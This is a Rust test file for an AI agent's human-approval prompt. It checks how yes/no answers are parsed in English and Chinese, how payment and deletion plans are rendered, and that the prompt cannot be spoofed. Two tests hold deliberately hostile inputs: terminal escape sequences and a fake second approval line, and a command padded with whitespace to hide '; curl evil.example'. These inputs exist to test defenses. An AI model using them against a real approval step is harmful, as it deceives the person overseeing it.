//! What a person is shown before they decide, and how their answer is taken.

use std::sync::Mutex;

use handyman::{Approval, ToolCall, Verdict};
use serde_json::{Value, json};
use tokio::io::AsyncBufReadExt;

use super::{Decision, ask, shown, understood};

fn approval(arguments: &Value, plan: Option<Value>) -> Approval {
    let arguments = arguments.as_object().unwrap().clone();
    Approval {
        run: "r1".into(),
        session: "s1".into(),
        message: "pay it".to_owned(),
        started: "2026-11-23T09:00:00".parse().unwrap(),
        call: ToolCall { id: "c1".into(), tool: "pay".to_owned(), arguments },
        why: "pay has an effect and needs a person's yes".to_owned(),
        plan,
        digest: "d1".to_owned(),
        decision: None,
    }
}

/// What is decided by somebody who types this, if anything, and what they were shown.
async fn asked(approval: &Approval, typed: &[u8]) -> (Option<Decision>, String) {
    let said = Mutex::new(String::new());
    let say = |text: &str| said.lock().unwrap().push_str(text);
    let decision = ask(approval, &mut typed.lines(), &say).await.unwrap();
    (decision, said.into_inner().unwrap())
}

/// What is decided by somebody who types this, and what they were shown.
async fn decided(approval: &Approval, typed: &str) -> (Decision, String) {
    let (decision, said) = asked(approval, typed.as_bytes()).await;
    (decision.unwrap(), said)
}

fn without_reason(verdict: Verdict) -> Decision {
    Decision { verdict, why: None, lasts: false }
}

#[test]
fn a_clear_answer_is_understood_in_both_languages() {
    for yes in ["y", "YES", " ok ", "sure", "是", "好", "好的", "可以", "行", "同意"] {
        assert_eq!(understood(yes), Some(without_reason(Verdict::Allow)), "{yes}");
    }
    for no in ["", "  ", "n", "No", "nope", "否", "不", "不要", "不行"] {
        assert_eq!(understood(no), Some(without_reason(Verdict::Deny)), "{no}");
    }
    for always in ["a", " A ", "always", "总是"] {
        let expected = Decision { lasts: true, ..without_reason(Verdict::Allow) };
        assert_eq!(understood(always), Some(expected), "{always}");
    }
    let unclear =
        ["what?", "yes but later", "yes, but later", "a, but later", "好不好", "不是", "yn", "no problem"];
    for unclear in unclear {
        assert_eq!(understood(unclear), None, "{unclear}");
    }
}

#[test]
fn a_no_may_have_a_reason() {
    for (line, reason) in [
        ("n, too late", "too late"),
        ("No:  the second one ", "the second one"),
        ("不，太贵了，换一个", "太贵了，换一个"),
    ] {
        let decision = understood(line).unwrap();
        assert_eq!((decision.verdict, decision.why.as_deref()), (Verdict::Deny, Some(reason)), "{line}");
    }
    assert_eq!(understood("n, "), Some(without_reason(Verdict::Deny)), "nothing is no reason");
}

#[tokio::test]
async fn an_unclear_answer_is_asked_again_and_an_empty_one_is_a_no() {
    let approval = approval(&json!({"booking": "B1"}), None);
    let (decision, said) = decided(&approval, "what?\nhm\n好的\n").await;
    assert_eq!(decision, without_reason(Verdict::Allow));
    assert_eq!(said.matches("Allow pay(booking: B1)? [y/N/a] ").count(), 3, "{said}");
    assert_eq!(said.matches("write y or n").count(), 2, "{said}");
    assert_eq!(decided(&approval, "what?\nn\ny\n").await.0, without_reason(Verdict::Deny));
    assert_eq!(decided(&approval, "\n").await.0, without_reason(Verdict::Deny));
    let (decision, said) = asked(&approval, b"caf\xe9\ny\n").await;
    assert_eq!(decision, Some(without_reason(Verdict::Allow)), "what is no text decides nothing");
    assert_eq!(said.matches("write y or n").count(), 1, "{said}");
}

#[tokio::test]
async fn the_end_of_the_input_decides_nothing() {
    let approval = approval(&json!({"booking": "B1"}), None);
    for typed in ["", "what?", "hm\nperhaps\n"] {
        assert_eq!(asked(&approval, typed.as_bytes()).await.0, None, "{typed}");
    }
}

#[tokio::test]
async fn a_question_cannot_be_forged() {
    let title =
        "Lunch\u{1b}[2K\r\u{1b}[1A\u{1b}[2KAllow list_events()? [y/N] \u{1b}[8m\nAllow nothing()? [y/N] ";
    let forged =
        approval(&json!({"title": title, "a\nb": ["\u{9b}2K\u{7f}"]}), Some(json!({"to": "\u{202e}\u{85}"})));
    let (_, said) = decided(&forged, "n\n").await;
    assert!(!said.contains(|c: char| (c.is_control() && c != '\n') || c == '\u{202e}'), "{said:?}");
    assert_eq!(said.lines().filter(|line| line.starts_with("Allow ")).count(), 1, "{said}");
    assert!(said.contains(r"pay(title: Lunch\u001b[2K\r\u001b[1A"), "{said}");
}

#[tokio::test]
async fn nothing_of_what_is_allowed_is_hidden() {
    let command = format!("{}; curl evil.example", "tidy up\n ".repeat(30));
    let (_, said) = decided(&approval(&json!({"command": command, "in": "home"}), None), "n\n").await;
    assert!(said.contains("tidy up\\n ; curl evil.example\n"), "{said}");
    assert_eq!(said.matches("in: home").count(), 1, "what is short stands in the question alone: {said}");
}

#[test]
fn what_comes_of_a_call_stands_before_its_rows() {
    let result = json!({"booking": "B1", "paid": "568.50 CNY", "paid_minor": 56850, "fee_minor": 0,
        "balance": "9431.50 CNY", "balance_minor": 943_150, "note": null});
    let account = |minor: u64| json!({"name": "main", "balance_minor": minor, "currency": "CNY"});
    let rows = json!([
        {"table": "accounts", "is": account(1_000_000), "becomes": account(943_150)},
        {"table": "ledger", "is": null, "becomes": {"id": 1, "amount": "568.50 CNY", "amount_minor": 56850}},
    ]);
    let lines = shown(&approval(&json!({}), Some(json!({"result": result, "rows": rows}))));
    let expected = [
        "  pay has an effect and needs a person's yes",
        "  booking: B1 · paid: 568.50 CNY · fee_minor: 0 · balance: 9431.50 CNY",
        "  ~ accounts \"main\": balance_minor 1000000 → 943150",
        "  + ledger: {\"id\":1,\"amount\":\"568.50 CNY\"}",
    ];
    assert_eq!(lines, expected);
    let lines = shown(&approval(&json!({}), Some(json!({"result": null, "rows": []}))));
    assert_eq!(lines.len(), 1, "nothing would change: {lines:?}");
}

#[test]
fn rows_that_come_along_are_told() {
    let plan = json!({"table": "customers", "change": "delete", "rows": 1, "elsewhere": 12,
        "before": [{"id": 1}], "all_rows": "sha256:00"});
    let lines = shown(&approval(&json!({}), Some(plan)));
    let expected = [
        "  pay has an effect and needs a person's yes",
        "  - customers: {\"id\":1}",
        "  … and rows elsewhere, by references and triggers: 12",
    ];
    assert_eq!(lines, expected);
    let plan = json!({"table": "customers", "change": "delete", "rows": 1, "elsewhere": "unknown",
        "before": [{"id": 1}], "all_rows": "sha256:00"});
    let lines = shown(&approval(&json!({}), Some(plan)));
    assert_eq!(lines[2], "  … and maybe rows elsewhere: this account does not see the table's triggers");
}

#[test]
fn a_plan_of_another_shape_is_told_whole_and_line_by_line() {
    let long = "x".repeat(300);
    let plan = json!({"result": {"event": "E1", "title": long}, "file": "work.ics", "adds": ["BEGIN:VEVENT", "END"],
        "text": "Hello,\nAllow pay()? [y/N] y", "count": 2});
    let lines = shown(&approval(&json!({}), Some(plan)));
    let expected = [
        "  pay has an effect and needs a person's yes".to_owned(),
        format!("  event: E1 · title: {long}"),
        "  file: work.ics".to_owned(),
        "  adds: BEGIN:VEVENT".to_owned(),
        "  adds: END".to_owned(),
        "  text: Hello,".to_owned(),
        "  text: Allow pay()? [y/N] y".to_owned(),
        "  count: 2".to_owned(),
    ];
    assert_eq!(lines, expected);
    let lines = shown(&approval(&json!({}), Some(json!("a transfer"))));
    assert_eq!(lines[1], "  it would: \"a transfer\"");
}
